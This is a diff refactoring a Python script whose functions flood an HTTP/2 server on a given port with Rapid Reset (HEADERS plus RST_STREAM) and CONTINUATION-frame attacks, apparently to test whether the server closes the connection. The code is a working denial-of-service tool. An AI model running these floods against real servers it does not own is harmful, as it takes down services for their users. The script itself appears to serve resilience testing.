@@ -75,29 +75,25 @@ def send(sock, payload):
         return False
 
 
-def rapid_reset(port, count):
-    sock, encoder = connect(port), hpack.Encoder()
+def barrage(sock, count, frames, every):
+    """Sends frames(i) for i in range(count), checking every `every` sends whether the server ended the connection."""
     for i in range(count):
-        stream = 1 + 2 * i
-        headers = HeadersFrame(stream, encoder.encode(REQUEST), flags=["END_HEADERS"])
-        if not send(sock, headers.serialize() + RstStreamFrame(stream, error_code=8).serialize()):
-            return f"closed after {i}"
-        if i % 200 == 0 and server_ended(sock):
+        if not send(sock, frames(i)) or (i % every == 0 and server_ended(sock)):
             return f"closed after {i}"
     return f"done {count}"
+
+
+def rapid_reset(port, count):
+    sock, encoder = connect(port), hpack.Encoder()
+    return barrage(sock, count, lambda i: HeadersFrame(1 + 2 * i, encoder.encode(REQUEST), flags=["END_HEADERS"]).serialize()
+                   + RstStreamFrame(1 + 2 * i, error_code=8).serialize(), 200)
 
 
 def continuation(port, count):
     sock, encoder = connect(port), hpack.Encoder()
     if not send(sock, HeadersFrame(1, encoder.encode(REQUEST)).serialize()):  # no END_HEADERS
         return "closed after 0"
-    for i in range(count):
-        block = encoder.encode([(f"x-junk-{i}", "y" * 100)])
-        if not send(sock, ContinuationFrame(1, block).serialize()):
-            return f"closed after {i}"
-        if i % 50 == 0 and server_ended(sock):
-            return f"closed after {i}"
-    return f"done {count}"
+    return barrage(sock, count, lambda i: ContinuationFrame(1, encoder.encode([(f"x-junk-{i}", "y" * 100)])).serialize(), 50)
 
 
 def header_bomb(port, count):
